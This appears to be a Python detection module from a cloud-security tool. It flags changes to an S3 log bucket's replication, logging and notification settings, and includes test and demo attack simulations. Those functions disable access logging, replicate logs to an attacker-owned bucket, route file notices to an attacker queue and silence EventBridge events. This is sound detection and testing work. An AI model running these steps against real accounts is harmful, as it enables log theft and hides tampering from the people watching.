"""Somebody changes who hears of the files in the log bucket."""

from __future__ import annotations

from trailkeeper.detections import resources
from trailkeeper.detections.detection import Detection, Said
from trailkeeper.words.text import Severity

DETECTION = Detection(
    id="log-bucket-observers-changed",
    category="log-bucket",
    severity=Severity.CRITICAL,
    event_source="s3.amazonaws.com",
    events=(
        "PutBucketReplication",
        "PutBucketLogging",
        "DeleteBucketReplication",
        "PutBucketNotification",
        "PutBucketNotificationConfiguration",
    ),
    resource_fields=("bucketName",),
    ours=resources.log_bucket,
    touches=(
        "log-bucket.access-logging",
        "log-bucket.replication",
        "log-bucket.notification",
    ),
    subject={"en": "Log bucket copies or notices changed", "ko": "로그 버킷 복제·알림 설정 변경"},
    did={
        "en": "changed where the log bucket {resource} copies files or tells of them",
        "ko": "로그 버킷({resource})의 로깅·복제·알림 설정을 변경했습니다",
    },
    said={
        "PutBucketReplication": Said(
            {"en": "Log bucket replication changed", "ko": "로그 버킷 복제 설정 변경"},
            {
                "en": "set the log bucket {resource} to copy its files elsewhere",
                "ko": "로그 버킷({resource})의 파일이 다른 버킷으로 복제되도록 설정했습니다",
            },
        ),
    },
)

# What follows is for people, tests and the demo: it is not packed for the functions.

from typing import Any

from trailkeeper.detections.proof import (
    Attacker,
    Example,
    Limit,
    Proof,
    Technique,
    told,
)
from trailkeeper.evidence.drift import ABSENT

_TO_EVENTBRIDGE: dict[str, Any] = {"EventBridgeConfiguration": {}}
_PEOPLE_DECIDE = "Nothing is touched: only people know whether it is wanted"


def _replicate(a: Attacker) -> None:
    rule = {
        "ID": "copy",
        "Status": "Enabled",
        "Priority": 1,
        "Filter": {"Prefix": ""},
        "DeleteMarkerReplication": {"Status": "Disabled"},
        "Destination": {"Bucket": f"arn:aws:s3:::{a.own_bucket()}"},
    }
    a.s3.put_bucket_replication(
        Bucket=a.log_bucket,
        ReplicationConfiguration={"Role": a.own_role("s3.amazonaws.com"), "Rules": [rule]},
    )


def _put_notification(a: Attacker, configuration: dict[str, Any]) -> None:
    a.s3.put_bucket_notification_configuration(
        Bucket=a.log_bucket, NotificationConfiguration=configuration
    )


def _notify(a: Attacker) -> None:
    queue = {"QueueArn": a.own_queue(), "Events": ["s3:ObjectCreated:*"]}
    _put_notification(a, {"QueueConfigurations": [queue], **_TO_EVENTBRIDGE})


PROOF = Proof(
    example=Example(
        {"bucketName": "trailkeeper-logs-111122223333-us-east-1"},
        told(
            "log-bucket.replication",
            "Rules",
            '[{"Destination": {"Bucket": "arn:aws:s3:::somebody-elses-bucket"}, '
            '"Status": "Enabled"}]',
            ABSENT,
        ),
    ),
    techniques=(
        Technique(
            id="log-bucket-access-logging-off",
            words="Turn off the access logs of the bucket",
            events=("PutBucketLogging",),
            documents=("log-bucket.access-logging",),
            how="The baseline's access logging is put back",
            known_as=(),
            attack=lambda a: a.s3.put_bucket_logging(Bucket=a.log_bucket, BucketLoggingStatus={}),
        ),
        Technique(
            id="log-bucket-replicated",
            words="Copy the log files to a bucket of the attacker",
            events=("PutBucketReplication",),
            documents=("log-bucket.replication",),
            outcome="told",
            how=_PEOPLE_DECIDE,
            known_as=(),
            attack=_replicate,
            undo=lambda a: a.s3.delete_bucket_replication(Bucket=a.log_bucket),
        ),
        Technique(
            id="log-bucket-notified",
            words="Tell a queue or function of the attacker about every log file",
            events=("PutBucketNotification",),
            documents=("log-bucket.notification",),
            outcome="told",
            how=_PEOPLE_DECIDE,
            known_as=(),
            attack=_notify,
            undo=lambda a: _put_notification(a, _TO_EVENTBRIDGE),
        ),
        Technique(
            id="log-bucket-events-off",
            words="Keep the bucket's own events, such as deleted log files, from EventBridge",
            events=("PutBucketNotification",),
            documents=("log-bucket.notification",),
            how="Events go to EventBridge again",
            known_as=(),
            attack=lambda a: _put_notification(a, {}),
        ),
    ),
    limits=(
        Limit(
            "List the names of log files by an inventory",
            "An inventory carries names and sizes, not contents",
        ),
    ),
)
